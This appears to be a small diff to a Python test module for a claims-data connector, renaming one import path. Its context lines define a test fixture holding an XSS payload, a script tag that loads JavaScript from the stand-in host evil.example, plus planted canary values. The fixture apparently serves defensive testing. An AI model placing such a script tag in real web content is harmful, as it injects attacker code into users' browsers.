@@ -14,7 +14,7 @@ from connectors.sources.village_claims.template import SHEETS
 from expectations import data_docs as room
 from expectations.criteria_set import load_criteria
 from flows.cli import cli
-from flows.doors import open_warehouse
+from flows.open_stores import open_warehouse
 
 HOSTILE = '<script src="http://evil.example/x.js"></script>'
 PLANTED = ("evil.example", "Khuổi Dụi", "Hà Thị Mẫu", "0912345678")
